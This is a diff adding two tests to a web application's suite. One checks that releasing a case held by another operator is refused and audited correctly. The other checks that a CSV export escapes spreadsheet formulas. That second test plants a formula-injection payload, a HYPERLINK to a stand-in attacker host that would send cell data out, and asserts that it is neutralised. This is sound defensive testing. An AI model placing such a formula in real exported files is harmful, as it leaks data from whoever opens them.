@@ -199,3 +199,47 @@ async def test_cookies_are_secure_unless_the_loopback_opt_out_is_set(database: D
         session_cookie = [v for v in resp.headers.getall("Set-Cookie") if v.startswith("vb_session=")][0]
         assert "Secure" in session_cookie and "HttpOnly" in session_cookie and "SameSite=Strict" in session_cookie
         assert resp.headers["Strict-Transport-Security"].startswith("max-age=")
+
+
+async def test_releasing_a_case_someone_else_holds_is_refused_and_not_audited_as_a_release(
+        client: TestClient, database: Database) -> None:
+    add_users(database, ("op1", "operator"), ("op2", "operator"))
+    case_id = seed_cases(database)["cases"][0]
+    await login(client, "op1")
+    token = await csrf_of(client)
+    assert (await client.post(f"/cases/{case_id}/claim", headers={"X-CSRF-Token": token})).status == 200
+    await login(client, "op2")
+    token = await csrf_of(client)
+    resp = await client.post(f"/cases/{case_id}/release", data={"csrf": token}, allow_redirects=False)
+    assert resp.status == 409
+    assert [r for r in audit_rows(database, "case.release") if r.action == "case.release"] == []
+    refused = audit_rows(database, "case.release_refused")
+    assert [(r.actor, r.target_id) for r in refused] == [("op2", str(case_id))]
+    esc = database.run(lambda s: s.get(Escalation, case_id), write=False)
+    assert esc.status == EscalationStatus.CLAIMED
+    # the holder's own release still works and is audited as one
+    await login(client, "op1")
+    token = await csrf_of(client)
+    resp = await client.post(f"/cases/{case_id}/release", data={"csrf": token}, allow_redirects=False)
+    assert resp.status == 303
+    assert [r.actor for r in audit_rows(database, "case.release") if r.action == "case.release"] == ["op1"]
+
+
+async def test_results_download_has_one_bom_and_no_live_formulas(client: TestClient, database: Database) -> None:
+    from storage.models import Person
+
+    add_users(database, ("admin1", "admin"))
+    camp = seed_cases(database)["campaign"]
+
+    def poison(s) -> None:
+        person = s.exec(select(Person).where(Person.campaign_id == camp)).first()
+        person.name = '=HYPERLINK("http://evil.example/?d="&C2,"x")'
+        s.add(person)
+
+    database.run(poison)
+    await login(client, "admin1")
+    raw = await (await client.get(f"/campaigns/{camp}/export.csv")).read()
+    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"\xef\xbb\xbf" * 2)
+    text = raw.decode("utf-8-sig")
+    assert "'=HYPERLINK(" in text and ',"=HYPERLINK(' not in text and "\n=HYPERLINK(" not in text
+    assert "+8613912345678" in text  # phones stay usable
